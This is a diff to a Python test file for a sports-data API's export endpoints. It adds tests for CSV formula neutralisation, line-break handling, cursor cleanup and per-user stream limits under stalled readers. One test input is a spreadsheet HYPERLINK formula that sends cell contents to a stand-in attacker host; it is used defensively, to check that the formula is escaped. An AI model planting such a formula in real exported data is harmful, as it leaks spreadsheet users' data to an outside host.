@@ -4,7 +4,10 @@ concurrent exports through a real gunicorn), the snapshot, the export record and
 import csv
 import io
 import json
+import os
+import socket
 import threading
+import time
 import urllib.error
 import urllib.request
 from datetime import UTC, datetime, timedelta
@@ -19,6 +22,7 @@ from tests import asserts, factories
 from tests.servers import gunicorn
 from web import ratelimits
 
+ON_POSTGRES = bool(os.environ.get("TEST_DATABASE_URL"))
 EXPORTS = "/api/v1/data/exports"
 USAGE = "/api/v1/data/usage"
 CATALOG = "/api/v1/data/catalog"
@@ -395,7 +399,9 @@ def test_concurrent_exports_are_charged_exactly_through_gunicorn(make_app):
         tokens = {"pro": factories.token(pro), "admin": factories.token(admin)}
     limit = size * fits + size // 2
     formats = ("csv", "ndjson", "json")
-    with gunicorn(app, QUOTA_PRO_EXPORT_ROWS=limit, LOG_LEVEL="WARNING") as (base, _):
+    # Stream bounds out of the way: the quota is what this counts.
+    streams = {"EXPORT_STREAMS_PER_USER": threads, "EXPORT_STREAMS_PER_PROCESS": threads}
+    with gunicorn(app, QUOTA_PRO_EXPORT_ROWS=limit, LOG_LEVEL="WARNING", **streams) as (base, _):
         for kind in ("pro", "admin"):
             results = at_once(
                 threads,
@@ -429,3 +435,224 @@ def test_concurrent_exports_are_charged_exactly_through_gunicorn(make_app):
             .tuples()
         }
         assert counted == {pro.id: (fits, fits * size), admin.id: (threads, threads * size)}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturned",
+]
+
+
+def test_csv_exports_neutralise_formula_cells(make_app):
+    """Text a spreadsheet would run as a formula is written with a leading ' (OWASP), in CSV
+    only; numbers (negative ones too) and JSON are as stored."""
+    app = make_app()
+    with app.app_context():
+        records = [
+            MatchRecord(
+                league=LEAGUE,
+                season="2025-26",
+                kickoff_at=KICKOFF + timedelta(days=day),
+                home_team=name,
+                away_team=f"Plain {day}",
+                status="finished",
+                home_goals=0,
+                away_goals=1,
+                odds=quotes(),
+            )
+            for day, name in enumerate(FORMULAS)
+        ]
+        imports.store(records)
+        headers = factories.people()["pro"][1]
+    client = app.test_client()
+    rows = csv_rows(export(client, headers, "teams", "csv").get_data(as_text=True))
+    names = {row["name"] for row in rows}
+    assert {"'" + name for name in FORMULAS} <= names
+    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
+    matches = csv_rows(export(client, headers, "matches", "csv").get_data(as_text=True))
+    assert {row["homeTeamName"] for row in matches} == {"'" + name for name in FORMULAS}
+    items = export(client, headers, "teams", "json").get_json()["items"]
+    assert set(FORMULAS) <= {item["name"] for item in items}  # JSON carries the data as it is
+
+
+def test_csv_neutralising_leaves_numbers_and_plain_text_alone():
+    from web.streams import neutralised
+
+    assert neutralised(-3.91) == -3.91 and neutralised(0) == 0 and neutralised(None) is None
+    assert neutralised("Brighton & Hove") == "Brighton & Hove" and neutralised("") == ""
+    assert neutralised("-1") == "'-1"
+
+
+def test_csv_cells_holding_a_line_break_stay_in_their_row(make_app):
+    app = make_app()
+    with app.app_context():
+        store_matches(1, prefix="Two\nLines\r")
+        headers = factories.people()["pro"][1]
+    rows = csv_rows(export(app.test_client(), headers, "teams", "csv").get_data(as_text=True))
+    assert len(rows) == 2
+    assert {row["name"] for row in rows} == {"Two\nLines\r H0", "Two\nLines\r A0"}
+
+
+@pytest.mark.parametrize("format_", ["csv", "ndjson"])
+def test_an_abandoned_export_closes_its_cursor_before_its_snapshot(small, format_):
+    """A body read in part, then dropped (a client gone mid-download): the rows' cursor ends
+    before the snapshot's connection, so nothing is left to close on a closed database (which
+    Python reports as "Exception ignored", an error under filterwarnings=error)."""
+    import gc
+
+    app, client, people = small()
+    with app.app_context():
+        store_matches(120, prefix="Many")  # several chunks of rows
+    response = export(client, people["pro"][1], "odds", format_, buffered=False)
+    assert response.status_code == 200
+    body = iter(response.response)
+    next(body), next(body)  # the header, then the first chunk of rows: the cursor is open
+    response.close()
+    del body, response
+    gc.collect()
+    again = export(client, people["pro"][1], "teams", "csv")
+    assert again.status_code == 200
+
+
+# Stalled readers through a real gunicorn
+
+
+def _stall(port, token, resource="odds", format_="ndjson"):
+    """Open an export on a socket with a small receive buffer, read its first bytes, then stop
+    reading: (the socket, the status code)."""
+    body = json.dumps({"resource": resource, "format": format_}).encode()
+    sock = socket.socket()
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    sock.settimeout(30)
+    sock.connect(("127.0.0.1", port))
+    sock.sendall(
+        b"POST " + EXPORTS.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+        b"Content-Type: application/json\r\nAuthorization: Bearer " + token.encode() + b"\r\n"
+        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
+    )
+    head = b""
+    while len(head) < 200 and b"\r\n\r\n" not in head:
+        head += sock.recv(200)
+    return sock, int(head.split(b" ", 2)[1])
+
+
+def _drain(sock) -> int:
+    """Bytes left to read on ``sock`` until the server closes it."""
+    total = 0
+    try:
+        while chunk := sock.recv(65536):
+            total += len(chunk)
+    except ConnectionResetError:
+        pass
+    finally:
+        sock.close()
+    return total
+
+
+def _timed_get(base, path, timeout):
+    """(status, seconds) of a GET that must answer within ``timeout`` seconds."""
+    started = time.monotonic()
+    with urllib.request.urlopen(f"{base}{path}", timeout=timeout) as response:
+        response.read()
+        return response.status, time.monotonic() - started
+
+
+@pytest.mark.slow
+def test_stalled_export_readers_never_hold_the_service(make_app):
+    """Eight exports whose readers stall after ~200 bytes: exactly four stream (two for each of
+    two callers; a caller's third and anything past the process's four are 429s that charge
+    nothing), /healthz and a public read answer within 1 s meanwhile, and the stalled streams
+    are cut within the send timeout, their places and snapshots given back."""
+    timeout = 10.0  # long enough to open every stall before the first is cut, on a busy machine
+    app = make_app()
+    with app.app_context():
+        # 84,000 quotes: an NDJSON body over 8 MB, twice what the server's socket may buffer
+        store_matches(3000)
+        users = [factories.user(f"pro{n}@example.com", plan="pro") for n in range(3)]
+        tokens = [factories.token(user) for user in users]
+    settings = {
+        "EXPORT_SEND_TIMEOUT": timeout,
+        "EXPORT_STREAMS_PER_USER": 2,
+        "EXPORT_STREAMS_PER_PROCESS": 4,
+        "LOG_LEVEL": "WARNING",
+        "WEB_CONCURRENCY": 1,  # one process: its bounds are the ones counted here
+    }
+    with gunicorn(app, **settings) as (base, _):
+        port = int(base.rsplit(":", 1)[1])
+        status, _, whole = post_export(base, tokens[2], "odds", "ndjson")
+        assert status == 200 and len(whole) > 8_000_000
+        began = time.monotonic()
+        opened = [_stall(port, tokens[n]) for n in (0, 0, 0, 1, 1, 1, 2, 2)]
+        statuses = [status for _, status in opened]
+        opened_at = time.monotonic()
+        assert opened_at - began < timeout  # none could have been cut yet
+        assert statuses == [200, 200, 429, 200, 200, 429, 429, 429]
+        stalled = [sock for sock, status in opened if status == 200]
+        try:
+            for sock, status in opened:
+                if status != 200:
+                    sock.close()
+            for path in ("/healthz", "/api/picks/today", "/readyz"):
+                status, seconds = _timed_get(base, path, timeout=1.0)
+                assert status == 200 and seconds < 1.0, (path, seconds)
+            if ON_POSTGRES:
+                with app.app_context():
+                    assert _idle_in_transaction() <= 4  # one snapshot per open stream at most
+            # Every stream stalled within ``timeout`` of ``opened_at`` is cut by then plus the
+            # watcher's tick (1 s): give it 10 s more, then each is found cut short, and its
+            # caller's places are back.
+            time.sleep(max(0.0, opened_at + timeout + 10 - time.monotonic()))
+            for sock in stalled:
+                assert _drain(sock) < len(whole)  # cut short, not sent to its end
+        finally:
+            for sock, _ in opened:
+                sock.close()
+        for token in tokens[:2]:
+            assert post_export(base, token, "leagues", "csv")[0] == 200
+        usage = get_usage(base, tokens[0])
+        assert usage["exports"]["used"] == 3  # its two stalled exports and the last; no 429s
+        if ON_POSTGRES:
+            with app.app_context():
+                assert _idle_in_transaction() == 0
+
+
+def _idle_in_transaction() -> int:
+    """Sessions of this database left idle inside a transaction (an open snapshot)."""
+    from store.database import db
+
+    return db.execute_sql(
+        "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
+        "AND state = 'idle in transaction' AND pid <> pg_backend_pid()"
+    ).fetchone()[0]
+
+
+def test_exports_past_the_callers_streams_are_429s_that_charge_nothing(small):
+    """Two unread exports hold the caller's two places: a third is a 429 too-many-exports with
+    Retry-After, charged nothing; past the process's three, anyone's is; once one is closed,
+    the next goes."""
+    _app, client, people = small(EXPORT_STREAMS_PER_USER=2, EXPORT_STREAMS_PER_PROCESS=3)
+    headers = people["pro"][1]
+    held = [export(client, headers, "teams", "csv", buffered=False) for _ in range(2)]
+    assert [response.status_code for response in held] == [200, 200]
+    before = usage(client, headers)
+    refused = export(client, headers, "teams", "csv")
+    body = asserts.problem(refused, 429, "too-many-exports")
+    assert int(refused.headers["Retry-After"]) >= 1 and "account" in body["detail"]
+    after = usage(client, headers)
+    assert after["exports"] == before["exports"]
+    assert after["exportRows"] == before["exportRows"]
+    other = people["admin"][1]
+    held.append(export(client, other, "teams", "csv", buffered=False))
+    assert held[-1].status_code == 200
+    by_server = asserts.problem(export(client, other, "teams", "csv"), 429, "too-many-exports")
+    assert "server" in by_server["detail"]
+    # Closed last first: each unread body holds its request context on this one thread.
+    held.pop().close()
+    held.pop().close()
+    response = export(client, headers, "teams", "csv")
+    assert response.status_code == 200 and len(csv_rows(response.get_data(as_text=True))) == 8
+    held.pop().close()
